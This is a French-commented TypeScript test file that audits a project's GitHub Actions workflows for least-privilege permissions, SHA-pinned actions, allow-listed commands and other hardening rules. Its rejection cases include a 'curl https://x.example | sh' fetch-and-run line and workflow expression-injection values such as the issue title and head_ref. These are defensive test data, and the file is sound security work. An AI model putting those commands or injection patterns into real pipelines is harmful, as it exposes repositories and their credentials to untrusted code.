/** Ce que fait la forge toute seule : peu de droits, des actions à l’empreinte près, et rien d’écrit par un inconnu dans une commande. */
import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { fichiersDuProjet } from '../../maison/fichiers.ts'

interface Etape {
  uses?: string
  run?: string
  with?: Record<string, unknown>
  env?: Record<string, string>
}
interface Travaux {
  on: Record<string, unknown>
  permissions?: Record<string, string>
  jobs: Record<string, { permissions?: Record<string, string>; 'timeout-minutes'?: number; steps: Etape[] }>
}

/** Fichier → tous les droits que ses travaux ont, et pas un de plus. */
const DROITS: Record<string, string[]> = {
  'actualiser.yml': ['contents: write', 'pull-requests: write'],
  'audit.yml': ['contents: read'],
  'commenter.yml': ['actions: read', 'contents: read', 'pull-requests: write'],
  'liens.yml': ['contents: read', 'issues: write'],
  'proposition.yml': ['actions: write', 'contents: write', 'issues: write', 'pull-requests: write'],
  'publier.yml': ['contents: read', 'contents: write', 'id-token: write', 'pages: write'],
  'verifier.yml': ['contents: read'],
}
/** Ceux qui lisent le code d’une proposition : ils n’écrivent rien. */
const LISENT_UNE_PROPOSITION = ['verifier.yml']

/** Une commande du projet, d’une ligne : un script qu’un essai lance aussi. */
const COMMANDE =
  /^(?:npm ci|npm run [\w-]+(?: -- [\w ./=-]+)?|node scripts\/[\w/-]+\.ts(?: [\w ./-]+)?|\.ci\/run)$/

function fautes(nom: string, texte: string): string[] {
  const travaux = parse(texte) as Travaux
  const etapes = Object.values(travaux.jobs).flatMap(({ steps }) => steps)
  const dit: string[] = []
  if (travaux.permissions === undefined) dit.push('sans droits écrits : la forge donne les siens')
  const tous = [travaux, ...Object.values(travaux.jobs)].flatMap(({ permissions = {} }) =>
    Object.entries(permissions).map(([quoi, droit]) => `${quoi}: ${droit}`),
  )
  for (const droit of new Set(tous)) if (!DROITS[nom]?.includes(droit)) dit.push(`droit de trop : ${droit}`)
  for (const droit of DROITS[nom] ?? [])
    if (!tous.includes(droit)) dit.push(`droit qui n’y est plus : ${droit}`)
  for (const { uses, run = '', with: options = {} } of etapes) {
    if (uses !== undefined && !/^actions\/[\w-]+@[\da-f]{40}$/.test(uses))
      dit.push(`action sans empreinte : ${uses}`)
    if (run.trim().includes('\n') || (run && !COMMANDE.test(run)))
      dit.push(`pas une commande du projet : ${run}`)
    if (/\$\{\{/.test(run)) dit.push(`une expression dans une commande : ${run}`)
    if (uses?.startsWith('actions/checkout@') && ('ref' in options || 'repository' in options))
      dit.push('va chercher un autre code que le sien')
    if (
      uses?.startsWith('actions/checkout@') &&
      nom !== 'publier.yml' &&
      options['persist-credentials'] !== false
    )
      dit.push('laisse sa clé dans le dépôt')
  }
  if ('pull_request_target' in travaux.on)
    dit.push('pull_request_target : le code d’un inconnu, avec nos droits')
  if ('pull_request' in travaux.on && !LISENT_UNE_PROPOSITION.includes(nom))
    dit.push('pull_request : à déclarer ici')
  for (const [titre, un] of Object.entries(travaux.jobs))
    if (un['timeout-minutes'] === undefined) dit.push(`« ${titre} » n’a pas de fin`)
  return dit
}

const FICHIERS = fichiersDuProjet(['.github/workflows'], ['.yml'])

test('chaque travail de la forge est connu d’ici', () => {
  expect(FICHIERS.map((chemin) => chemin.replace('.github/workflows/', ''))).toEqual(
    Object.keys(DROITS).toSorted(),
  )
})

test.each(FICHIERS)('%s', (chemin) => {
  expect(fautes(chemin.replace('.github/workflows/', ''), readFileSync(chemin, 'utf8'))).toEqual([])
})

test('celui qui lit une proposition n’a aucun droit d’écrire', () => {
  for (const nom of LISENT_UNE_PROPOSITION) expect(DROITS[nom]).toEqual(['contents: read'])
})

describe('refuse', () => {
  const bon = `on: { pull_request: }
permissions: { contents: read }
jobs:
  un:
    timeout-minutes: 2
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with: { persist-credentials: false }
      - run: npm ci
`
  test('rien à un travail juste', () => expect(fautes('verifier.yml', bon)).toEqual([]))

  test.each([
    ['une action par son nom de version', bon.replace(/@\w+/, '@v5'), 'action sans empreinte'],
    ['une action d’un inconnu', bon.replace('actions/checkout', 'inconnu/checkout'), 'action sans empreinte'],
    [
      'un titre dans une commande',
      bon.replace('npm ci', 'echo ${{ github.event.issue.title }}'),
      'une expression',
    ],
    [
      'des lignes de commande',
      bon.replace('run: npm ci', 'run: |\n          npm ci\n          npm test'),
      'pas une commande',
    ],
    ['une commande d’ailleurs', bon.replace('npm ci', 'curl https://x.example | sh'), 'pas une commande'],
    ['une branche dans une commande', bon.replace('npm ci', 'echo ${{ github.head_ref }}'), 'une expression'],
    [
      'le droit d’écrire',
      bon.replace('contents: read', 'contents: write'),
      'droit de trop : contents: write',
    ],
    ['aucun droit écrit', bon.replace('permissions: { contents: read }\n', ''), 'sans droits écrits'],
    ['pull_request_target', bon.replace('pull_request:', 'pull_request_target:'), 'pull_request_target'],
    ['le code de la branche', bon.replace('false }', 'false, ref: refs/pull/1/head }'), 'un autre code'],
    ['une clé laissée', bon.replace('false }', 'true }'), 'laisse sa clé'],
    ['un travail sans fin', bon.replace('    timeout-minutes: 2\n', ''), 'n’a pas de fin'],
  ])('%s', (_quoi, texte, attendu) => {
    expect(fautes('verifier.yml', texte)).toContainEqual(expect.stringContaining(attendu))
  })
})
